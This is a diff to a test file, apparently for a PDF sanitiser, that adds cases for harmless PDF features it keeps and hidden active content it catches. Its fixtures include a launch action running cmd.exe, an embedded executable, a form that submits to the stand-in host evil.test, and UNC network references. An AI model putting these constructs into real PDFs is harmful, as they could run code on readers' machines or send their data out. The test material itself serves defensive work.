@@ -67,6 +67,11 @@ describe('an ordinary PDF', () => {
     ['with an address to write to', () => withLink('/S /URI /URI (mailto:care@shop.example)')],
     ['with a button to print', () => withLink('/S /Named /N /Print')],
     ['with marks of its structure', () => buildPdf({ objects: ['<< /Type /StructElem /A << /O /Layout >> >>'] })],
+    ['that mixes colours', () => buildPdf({ page: '/Resources << /ExtGState << /G << /BM /Screen >> >> >>' })],
+    [
+      'with fonts of odd names',
+      () => buildPdf({ page: '/Resources << /Font << /JS 4 0 R /EF 4 0 R >> >>', objects: ['<< /Type /Font >>'] }),
+    ],
     ['with padding at its end', () => after(Buffer.alloc(512))],
   ])('%s is kept', async (_kind, make) => {
     const once = await written(await make());
@@ -103,6 +108,7 @@ describe('a PDF that does more than show something', () => {
     ['a program', () => action('<< /S /Launch /F (cmd.exe) >>')],
     ['an attached file', () => compressed((document) => document.attach(Buffer.from('MZ'), 'a.exe'))],
     ['a file of a stream', () => buildPdf({ objects: [pdfStream('/Type /EmbeddedFile', Buffer.from('MZ'))] })],
+    ['a file that only its streams tell', () => buildPdf({ catalogue: '/AF [<< /F (a) /EF << /UF 4 0 R >> >>]' })],
     ['a form that sends', () => withLink('/S /SubmitForm /F (https://evil.test/)')],
     ['another document on the network', () => action('<< /S /GoToR /F (\\\\\\\\evil.test\\\\a) /D [0 /Fit] >>')],
     ['a stream that lies elsewhere', () => buildPdf({ objects: [pdfStream('/F (\\\\\\\\evil.test\\\\a)', CONTENT)] })],
